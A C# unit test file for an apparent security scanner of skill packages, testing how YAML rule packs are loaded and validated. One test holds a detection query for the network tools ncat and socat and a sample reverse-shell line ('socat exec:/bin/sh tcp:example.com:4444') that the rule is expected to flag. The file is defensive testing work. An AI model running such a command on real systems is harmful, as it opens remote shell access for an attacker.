using SkillScan.Model;
using SkillScan.Rules;
using SkillScan.Rules.Matchers;
using SkillScan.Semantics;
using SkillScan.Util;

namespace SkillScan.Tests.Rules;

public class PackLoadingTests
{
    private const string Descriptor = """
          - id: SS9001
            name: TestRule
            category: test
            severity: high
            precision: high
            summary: A test rule.
            help: Help.
        """;

    /// <summary>A pack of one test rule (SS9001) with the given `match:` body (indented six spaces).</summary>
    internal static string PackWith(string match) => $"pack: t\nrules:\n{Descriptor}\n    match:\n{match}";

    private static DataFileException Reject(string match, string file = "bad.yaml") =>
        Assert.Throws<DataFileException>(() => RulePackLoader.Parse(PackWith(match), file));

    [Fact]
    public void CorePackLoadsWithAtLeastFortyRules()
    {
        var core = RuleSet.BuiltinPacks().Single(p => p.Name == "core");
        Assert.True(core.Rules.Count >= 40, $"core has {core.Rules.Count} rules");
        Assert.All(core.Rules, r => Assert.StartsWith("SS", r.Descriptor.Id));
    }

    [Fact]
    public void EveryCoreRuleHasCompleteMetadataAndHelpSections()
    {
        var core = RuleSet.BuiltinPacks().Single(p => p.Name == "core");
        foreach (var rule in core.Rules.Select(r => r.Descriptor))
        {
            Assert.False(string.IsNullOrWhiteSpace(rule.Summary), rule.Id);
            foreach (var section in new[] { "## What it does", "## Why is this bad?", "## Example", "## Use instead", "## How to suppress" })
            {
                Assert.True(rule.Help.Contains(section, StringComparison.Ordinal), $"{rule.Id} help lacks '{section}'");
            }
            Assert.Contains("security", rule.Tags);
            Assert.Contains(rule.Tags, t => t.StartsWith("CWE-", StringComparison.Ordinal));
            Assert.InRange(rule.Tags.Count, 2, 10);
        }
    }

    [Fact]
    public void InvalidYamlIsRejectedWithFileAndLine()
    {
        var ex = Assert.Throws<DataFileException>(() => RulePackLoader.Parse("pack: t\nrules:\n  - id: [unclosed\n", "broken.yaml"));
        Assert.Equal("broken.yaml", ex.File);
        Assert.True(ex.Line >= 3, $"line {ex.Line}");
        Assert.Contains("invalid YAML", ex.Reason);
    }

    [Fact]
    public void UnknownCapabilityIsRejectedWithLineAndReason()
    {
        var ex = Reject("      call:\n        capability: [net.teleport]\n");
        Assert.Equal("bad.yaml", ex.File);
        Assert.Equal(12, ex.Line);
        Assert.Contains("unknown capability 'net.teleport'", ex.Reason);
        Assert.Contains("SS9001", ex.Reason);
    }

    [Fact]
    public void UnknownSourceKindIsRejected()
    {
        var ex = Reject("      flow:\n        from: [moon.read]\n        to: [net.send]\n");
        Assert.Contains("unknown source kind 'moon.read'", ex.Reason);
    }

    [Fact]
    public void UnknownMatcherKindIsRejectedAndKnownKindsListed()
    {
        var ex = Reject("      telepathy: {}\n");
        Assert.Equal(11, ex.Line);
        Assert.Contains("unknown matcher kind 'telepathy'", ex.Reason);
        foreach (var kind in new[] { "any", "builtin", "call", "command", "flow", "query", "source", "strings", "text" })
        {
            Assert.Contains(kind, ex.Reason);
        }
    }

    [Fact]
    public void UnknownMatcherKindInsideAnyIsRejected()
    {
        var ex = Reject("      any:\n        - call: {capability: [code.eval]}\n        - guess: {}\n");
        Assert.Equal(13, ex.Line);
        Assert.Contains("unknown matcher kind 'guess'", ex.Reason);
    }

    [Fact]
    public void QueryThatDoesNotCompileIsRejectedAtTheQueryLine()
    {
        var ex = Reject("      query:\n        javascript: |\n          (call_expression function: (identifier) @f)\n          (no_such_node_type) @x\n");
        Assert.Equal("bad.yaml", ex.File);
        Assert.Equal(14, ex.Line);
        Assert.Contains("no_such_node_type", ex.Reason);
        Assert.Contains("SS9001 (query)", ex.Reason);
    }

    [Fact]
    public void QueryWithUnbalancedParenthesesIsRejected()
    {
        var ex = Reject("      query:\n        python: \"(call function: (identifier) @f\"\n");
        Assert.Equal(12, ex.Line);
        Assert.Contains("syntax error", ex.Reason);
    }

    [Fact]
    public void BuiltinPackCompilesItsQueriesOnFirstUseWithTheSameError()
    {
        // Built-in packs skip the costly query compilation at load (start-up); the checks below keep them honest.
        const string match = "      query:\n        javascript: |\n          (call_expression function: (identifier) @f)\n          (no_such_node_type) @x\n";
        var pack = RulePackLoader.Parse($"pack: t\nrules:\n{Descriptor}\n    match:\n{match}", "bad.yaml", builtin: true);
        var ex = Assert.Throws<DataFileException>(() => ((QueryMatcher)pack.Rules[0].Matcher).CompileAll());
        Assert.Equal(14, ex.Line);
        Assert.Contains("no_such_node_type", ex.Reason);
    }

    [Fact]
    public void EveryBuiltinPackPassesTheChecksItsLoadDefers()
    {
        // Loaded as a user pack, a built-in pack gets every check at load, its queries compiled for each language.
        foreach (var name in EmbeddedRules.Names("rules/packs/"))
        {
            var pack = RulePackLoader.Parse(EmbeddedRules.Read(name)!, name);
            Assert.NotEmpty(pack.Rules);
        }
    }

    [Fact]
    public void EveryBuiltinQueryRulesOutFromItsTextWhatItsCompiledFormRulesOut()
    {
        // A built-in query is skipped, uncompiled, on a file its text's precondition rules out: that precondition
        // must be the compiled one, never stricter (a missed finding) and not looser (a compile paid for nothing).
        var checkedQueries = 0;
        foreach (var name in EmbeddedRules.Names("rules/packs/"))
        {
            var stream = new YamlDotNet.RepresentationModel.YamlStream();
            stream.Load(new StringReader(EmbeddedRules.Read(name)!));
            foreach (var node in stream.Documents[0].AllNodes.OfType<YamlDotNet.RepresentationModel.YamlMappingNode>())
            {
                if (node.Children.TryGetValue(new YamlDotNet.RepresentationModel.YamlScalarNode("query"), out var q) &&
                    q is YamlDotNet.RepresentationModel.YamlMappingNode byLanguage)
                {
                    foreach (var (key, text) in byLanguage.Children)
                    {
                        var id = ((YamlDotNet.RepresentationModel.YamlScalarNode)key).Value!;
                        if (id == "message") continue;
                        Assert.True(LanguageNames.TryParse(id, out var language), id);
                        var source = ((YamlDotNet.RepresentationModel.YamlScalarNode)text).Value!;
                        using var compiled = SkillScan.TreeSitter.TsQuery.Compile(SkillScan.Syntax.TreeSitterFrontEnd.ToTs(language), source);
                        Assert.Equal(compiled.Precondition.Describe(), SkillScan.TreeSitter.TsQueryPrecondition.FromSource(source).Describe());
                        Assert.DoesNotContain("", compiled.Precondition.Describe()); // each built-in query demands some text
                        checkedQueries++;
                    }
                }
            }
        }
        Assert.True(checkedQueries >= 8, $"{checkedQueries} built-in queries found");
    }

    [Fact]
    public void ABuiltinQueryIsNotCompiledForAFileItsTextRulesOut()
    {
        const string match = "      query:\n        bash: |\n          ((command name: (command_name) @n) @finding (#any-of? @n \"ncat\" \"socat\"))\n";
        var pack = RulePackLoader.Parse($"pack: t\nrules:\n{Descriptor}\n    languages: [bash]\n    match:\n{match}", "t.yaml", builtin: true);
        var query = ((QueryMatcher)pack.Rules[0].Matcher).Queries[Language.Bash];
        var engine = SkillScan.Pipeline.EngineFactory.Create(pack.Rules);
        SkillFile Script(string text) => new("run.sh", "s/run.sh", System.Text.Encoding.UTF8.GetBytes(text), Language.Bash);

        Assert.Empty(engine.AnalyzeSkill(new Skill("s", "s", [Script("ls -la\necho done\n")])).Findings);
        Assert.False(query.Query.IsValueCreated);

        var found = engine.AnalyzeSkill(new Skill("s", "s", [Script("ls\nsocat exec:/bin/sh tcp:example.com:4444\n")])).Findings;
        Assert.Equal("SS9001", Assert.Single(found).Rule.Id);
        Assert.True(query.Query.IsValueCreated);
    }

    [Theory]
    [InlineData("SS1234")]
    [InlineData("SS123")]
    [InlineData("SS12345")]
    [InlineData("ABC0001")]
    [InlineData("SS12")]
    [InlineData("SS123456")]
    [InlineData("S1234")]
    [InlineData("ss1234")]
    [InlineData("SS12a4")]
    [InlineData("SS-1234")]
    [InlineData("SS１２３４")] // full-width digits
    [InlineData("")]
    [InlineData("1234")]
    public void RuleIdsAndNamesAreCheckedAsTheirDocumentedPatternsSay(string text)
    {
        Assert.Equal(System.Text.RegularExpressions.Regex.IsMatch(text, "^[A-Z]{2,}[0-9]{3,5}$"), RulePackLoader.IsRuleId(text));
        foreach (var name in new[] { text, "Ok", "ReverseShell", "Reverse_Shell", "reverseShell", "R", "Ünicode", "Tab\t", text + "Z" })
        {
            Assert.Equal(System.Text.RegularExpressions.Regex.IsMatch(name, "^[A-Z][A-Za-z0-9]+$"), RulePackLoader.IsRuleName(name));
        }
    }

    [Fact]
    public void ARuleIdThatIsNotLikeSS1234IsRejected()
    {
        var ex = Assert.Throws<DataFileException>(() => RulePackLoader.Parse(
            $"pack: t\nrules:\n{Descriptor.Replace("SS9001", "SS90")}\n    match:\n      text:\n        pattern: x\n", "bad.yaml"));
        Assert.Contains("rule id 'SS90' must look like SS1234", ex.Reason);
    }

    [Fact]
    public void BadRegexIsRejected()
    {
        var ex = Reject("      text:\n        pattern: '(unclosed'\n");
        Assert.Contains("invalid pattern '(unclosed'", ex.Reason);
    }

    [Fact]
    public void UnknownDestinationClassIsRejected()
    {
        var ex = Reject("      strings: {destination: [moon-base]}\n");
        Assert.Contains("unknown destination class 'moon-base'", ex.Reason);
    }

    [Fact]
    public void UnknownConditionKeyIsRejected()
    {
        var ex = Reject("      call:\n        callee: [eval]\n        where: {in: 0, colour: red}\n");
        Assert.Contains("unknown key 'colour'", ex.Reason);
    }

    [Fact]
    public void UnknownBuiltinDetectorIsRejected()
    {
        var ex = Reject("      builtin: NoSuchDetector\n");
        Assert.Contains("no built-in detector named 'NoSuchDetector'", ex.Reason);
        Assert.Contains("InvisibleUnicode", ex.Reason);
    }

    [Fact]
    public void UnknownMessagePlaceholderIsRejected()
    {
        var ex = Reject("      call:\n        callee: [eval]\n        message: \"{nonsense}\"\n");
        Assert.Contains("unknown placeholder '{nonsense}'", ex.Reason);
    }

    [Fact]
    public void PathKindsUsedByRulesExistInPathsCatalog()
    {
        var known = BuiltinCatalogs.SensitivePaths.Kinds.Select(k => k.Kind).ToHashSet();
        if (known.Count == 0) return; // paths.yaml not merged yet: nothing to compare with
        var used = RuleSet.BuiltinPacks().SelectMany(p => p.Rules)
            .SelectMany(r => MatcherConditions(r.Matcher))
            .SelectMany(c => c.PathKinds)
            .Distinct()
            .ToList();
        Assert.NotEmpty(used);
        Assert.All(used, k => Assert.True(known.Contains(k), $"path kind '{k}' is not in rules/catalogs/paths.yaml (known: {string.Join(", ", known)})"));
    }

    private static IEnumerable<ValueCondition> MatcherConditions(IMatcher matcher) => matcher switch
    {
        AnyMatcher any => any.Alternatives.SelectMany(MatcherConditions),
        CallMatcher call => call.Selector.AllConditions.Concat(call.Escalation?.Conditions ?? []),
        FlowMatcher flow => flow.To.AllConditions,
        _ => [],
    };
}
